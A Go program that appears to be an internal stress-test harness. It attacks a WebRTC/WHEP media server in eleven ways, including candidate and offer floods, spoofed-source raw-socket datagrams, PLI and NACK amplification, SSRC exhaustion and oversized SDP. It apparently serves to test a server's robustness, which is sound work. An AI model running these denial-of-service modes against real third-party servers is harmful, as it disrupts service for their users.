package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"backstage/media/internal/session"

	"github.com/pion/rtcp"
	"github.com/pion/webrtc/v4"
)

// mode is one way of attacking. Its summary is printed beside the effect on the other room.
type mode struct {
	name string
	do   func(*target) (string, error)
}

var modes = []mode{
	{"candidates in offers", candidatesInOffers},
	{"candidates in patches", candidatesInPatches},
	{"5,000 addresses", addresses},
	{"forged source", forgedSource},
	{"1,000 offers", offers},
	{"1,000 PLI a second", keyframes},
	{"RTCP of a member", reports},
	{"garbage datagrams", garbage},
	{"sources and layers", sources},
	{"256 letter names", longNames},
	{"10,000 media lines", mediaLines},
}

// candidates returns candidate lines with other hosts' addresses.
func candidates(count int) string {
	var text strings.Builder
	for i := range count {
		fmt.Fprintf(&text, "a=candidate:%d 1 udp 2122260223 198.51.100.%d %d typ host\r\n", i, i%250+1, 1024+i)
	}
	return text.String()
}

func candidatesInOffers(t *target) (string, error) {
	offer, err := offerText()
	if err != nil {
		return "", err
	}
	return t.answers(40, func(int) string { return offer + candidates(280) })
}

func candidatesInPatches(t *target) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	statuses := map[int]int{}
	for range 40 {
		request, _ := http.NewRequest(http.MethodPatch, m.session.Location, strings.NewReader(candidates(200)))
		request.Header.Set("Content-Type", "application/trickle-ice-sdpfrag")
		request.Header.Set("Cookie", t.Cookie)
		response, err := http.DefaultClient.Do(request)
		if err != nil {
			return "", err
		}
		response.Body.Close()
		statuses[response.StatusCode]++
	}
	time.Sleep(2 * time.Second)
	return fmt.Sprintf("40 patches of 200: %v", statuses), nil
}

func addresses(t *target) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	server, err := net.ResolveUDPAddr("udp4", m.server)
	if err != nil {
		return "", err
	}
	sent := 0
	for i := range 5000 {
		from := &net.UDPAddr{IP: net.IPv4(127, byte(1+i/60000), byte(i/250), byte(1+i%250))}
		socket, err := net.DialUDP("udp4", from, server)
		if err != nil {
			return "", err
		}
		if _, err = socket.Write(m.check()); err == nil {
			sent++
		}
		socket.Close()
	}
	time.Sleep(time.Second)
	return fmt.Sprintf("%d signed requests, each from another address", sent), nil
}

func forgedSource(t *target) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	wire, err := openRaw(t.Victim, m.server)
	if err != nil {
		return "", fmt.Errorf("a raw socket (this needs root): %w", err)
	}
	defer wire.close()
	for i := range 1500 {
		datagram := m.check()
		if i%3 > 0 {
			datagram = noise()
		}
		if err = wire.send(datagram); err != nil {
			return "", err
		}
		time.Sleep(time.Millisecond)
	}
	return "500 signed requests and 1,000 of garbage from the publisher's address", nil
}

func offers(t *target) (string, error) {
	offer, err := offerText()
	if err != nil {
		return "", err
	}
	return t.answers(1000, func(int) string { return offer })
}

func keyframes(t *target) (string, error) {
	return t.write("PLI", func(ssrc uint32, _ int) []rtcp.Packet {
		return []rtcp.Packet{&rtcp.PictureLossIndication{MediaSSRC: ssrc}}
	})
}

// reports sends correctly signed RTCP that requests as much work as fits into one packet.
func reports(t *target) (string, error) {
	return t.write("NACKs and feedback", func(ssrc uint32, i int) []rtcp.Packet {
		if i%2 == 0 {
			nack := &rtcp.TransportLayerNack{MediaSSRC: ssrc}
			for n := range 250 {
				nack.Nacks = append(nack.Nacks, rtcp.NackPair{PacketID: uint16(i + 17*n), LostPackets: 0xffff})
			}
			return []rtcp.Packet{nack}
		}
		chunk := &rtcp.RunLengthChunk{PacketStatusSymbol: rtcp.TypeTCCPacketNotReceived, RunLength: 8191}
		feedback := &rtcp.TransportLayerCC{MediaSSRC: ssrc, PacketStatusCount: 65528}
		feedback.Header = rtcp.Header{Count: rtcp.FormatTCC, Type: rtcp.TypeTransportSpecificFeedback, Length: 8}
		for range 8 {
			feedback.PacketChunks = append(feedback.PacketChunks, chunk)
		}
		return []rtcp.Packet{feedback}
	})
}

func garbage(t *target) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	socket, err := net.Dial("udp4", m.server)
	if err != nil {
		return "", err
	}
	defer socket.Close()
	// After a signed request from this address, the server attributes it to the member.
	if _, err = socket.Write(m.check()); err != nil {
		return "", err
	}
	sent := 0
	for until := time.Now().Add(3 * time.Second); time.Now().Before(until); sent++ {
		socket.Write(noise())
		if sent%20 == 0 {
			time.Sleep(time.Millisecond)
		}
	}
	return fmt.Sprintf("%d datagrams of RTP, RTCP, DTLS and STUN", sent), nil
}

// sources sends RTP that nobody has authenticated, each datagram with a new source and a new layer, at a rate below the
// limit for datagrams. A server that keeps a stream for each becomes slower with every one.
func sources(t *target) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	socket, err := net.Dial("udp4", m.server)
	if err != nil {
		return "", err
	}
	defer socket.Close()
	if _, err = socket.Write(m.check()); err != nil {
		return "", err
	}
	offer := m.peer.LocalDescription().SDP
	mid, layer := extension(offer, "sdes:mid"), extension(offer, "sdes:rtp-stream-id")
	ticker := time.NewTicker(time.Second / 190)
	defer ticker.Stop()
	sent := 0
	for until := time.Now().Add(3 * limit); time.Now().Before(until); <-ticker.C {
		datagram := []byte{0x90, 96, byte(sent >> 8), byte(sent), 0, 0, 0, 0}
		datagram = binary.BigEndian.AppendUint32(datagram, 0x10000+uint32(sent))
		datagram = append(datagram, 0xbe, 0xde, 0, 2, mid<<4, '0', layer<<4|3)
		datagram = append(datagram, fmt.Sprintf("%04x", sent)...)
		datagram = append(datagram, make([]byte, 24)...)
		socket.Write(datagram[:12+4+8+22])
		sent++
	}
	return fmt.Sprintf("%d datagrams, each from another source", sent), nil
}

// extension returns the number that the offer gives to a header extension, 0 if it has none.
func extension(offer, name string) byte {
	for _, text := range strings.Split(offer, "\r\n") {
		if rest, found := strings.CutPrefix(text, "a=extmap:"); found && strings.HasSuffix(rest, name) {
			number, _ := strconv.Atoi(strings.Fields(strings.ReplaceAll(rest, "/", " "))[0])
			return byte(number)
		}
	}
	return 0
}

func noise() []byte {
	heads := [][]byte{{0x80, 96}, {0x90, 111}, {0x80, 200}, {0x81, 205}, {22, 254, 253}, {21, 254, 253}, {0, 1}, {1, 1}}
	datagram := make([]byte, 20+rand.IntN(1000))
	for i := range datagram {
		datagram[i] = byte(rand.Uint32())
	}
	copy(datagram, heads[rand.IntN(len(heads))])
	return datagram
}

func longNames(t *target) (string, error) {
	offer, err := offerText()
	if err != nil {
		return "", err
	}
	long := line(offer, "a=ice-ufrag:")
	offer = strings.ReplaceAll(offer, "a=ice-ufrag:"+long, "a=ice-ufrag:"+strings.Repeat("u", 256))
	return t.answers(40, func(int) string { return offer })
}

func mediaLines(t *target) (string, error) {
	offer, err := offerText()
	if err != nil {
		return "", err
	}
	// The largest ones exceed the server's limit of a request body.
	return t.answers(40, func(i int) string { return offer + strings.Repeat("m=a 9 X 0\r\n", 2_500*(1+i%4)) })
}

// answers posts offers and summarises the responses.
func (t *target) answers(count int, offer func(int) string) (string, error) {
	statuses, until, made := map[int]int{}, time.Now().Add(limit-time.Second), 0
	for ; made < count && time.Now().Before(until); made++ {
		response, err := session.Ask(context.Background(), http.MethodPost, t.Whep, session.Access{Cookie: t.Cookie}, offer(made))
		if err != nil {
			return "", err
		}
		response.Body.Close()
		statuses[response.StatusCode]++
	}
	return fmt.Sprintf("%d offers: %v", made, statuses), nil
}

// write joins and sends 1,000 reports a second.
func (t *target) write(what string, report func(ssrc uint32, i int) []rtcp.Packet) (string, error) {
	m, err := t.join()
	if err != nil {
		return "", err
	}
	defer m.peer.Close()
	ticker := time.NewTicker(time.Millisecond)
	defer ticker.Stop()
	sent, until := 0, time.Now().Add(3*time.Second)
	for ; time.Now().Before(until) && m.peer.ConnectionState() == webrtc.PeerConnectionStateConnected; <-ticker.C {
		if err = m.peer.WriteRTCP(report(m.ssrc, sent)); err != nil {
			return fmt.Sprintf("%d of %s, then %v", sent, what, err), nil
		}
		sent++
	}
	return fmt.Sprintf("%d of %s", sent, what), nil
}
